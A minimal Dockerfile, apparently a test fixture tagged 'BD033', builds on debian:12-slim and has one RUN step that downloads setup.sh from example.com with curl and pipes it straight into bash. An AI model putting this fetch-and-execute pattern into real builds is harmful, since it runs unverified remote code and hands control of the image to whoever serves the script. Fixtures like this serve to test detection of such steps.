FROM debian:12-slim
#! BD033
RUN curl -fsSL -o /tmp/setup.sh https://example.com/setup.sh && bash /tmp/setup.sh
